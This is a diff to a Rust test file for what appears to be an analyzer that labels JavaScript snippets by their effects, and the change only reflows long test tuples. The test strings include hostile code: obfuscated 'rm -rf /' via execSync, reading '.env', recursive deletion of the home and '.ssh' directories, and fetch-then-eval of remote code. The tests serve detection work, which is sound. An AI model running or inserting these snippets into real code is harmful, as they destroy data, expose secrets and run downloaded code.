@@ -31,7 +31,10 @@ fn commands() {
             ("require('child_process').execSync(['rm', '-rf', '/'].join(' '))", "sh rm -rf /"),
             ("require('child_process').execSync('rm '.concat('-rf /'))", "sh rm -rf /"),
             ("require('child_process').execSync('/ fr- mr'.split('').reverse().join(''))", "sh rm -rf /"),
-            ("require('child_process').execSync(Buffer.from('cm0gLXJmIC8=', 'base64').toString())", "sh rm -rf /"),
+            (
+                "require('child_process').execSync(Buffer.from('cm0gLXJmIC8=', 'base64').toString())",
+                "sh rm -rf /",
+            ),
             ("require('child_process').execSync(atob('cm0gLXJmIC8='))", "sh rm -rf /"),
             ("require('child_process').execSync(String.fromCharCode(114,109))", "sh rm"),
             ("console.log(`${require('child_process').execSync('x')}`)", "sh x"),
@@ -69,7 +72,10 @@ fn files() {
             ("import fs from 'node:fs/promises'; await fs.readFile('.env', 'utf8')", "read .env"),
             ("import { rmSync } from 'fs'\nrmSync(process.env.HOME, {recursive: true})", "delete-all ~"),
             ("fs.rmSync(require('os').homedir(), {recursive: true})", "delete-all ~"),
-            ("const os = require('os'), path = require('path'); fs.rmSync(path.join(os.homedir(), '.ssh'), {recursive: true})", "delete-all ~/.ssh"),
+            (
+                "const os = require('os'), path = require('path'); fs.rmSync(path.join(os.homedir(), '.ssh'), {recursive: true})",
+                "delete-all ~/.ssh",
+            ),
             ("fs.rmSync(process.env.HOME + '/x')", "delete ~/x"),
             ("fs.rmSync(`${process.env.HOME}/x`)", "delete ~/x"),
             ("fs.rmSync(process.env['HOME'])", "delete ~"),
@@ -111,7 +117,10 @@ fn code_in_code() {
             ("fetch('http://x').then(r => r.text()).then(eval)", "unresolved downloaded"),
             ("fetch('http://x').then(r => r.text()).then(t => eval(t))", "unresolved downloaded"),
             ("eval(await (await fetch('http://x')).text())", "unresolved downloaded"),
-            ("require('https').get('http://x', r => r.on('data', d => eval(d.toString())))", "unresolved downloaded"),
+            (
+                "require('https').get('http://x', r => r.on('data', d => eval(d.toString())))",
+                "unresolved downloaded",
+            ),
             ("const r = await fetch(u); console.log(await r.json())", ""),
         ],
     );
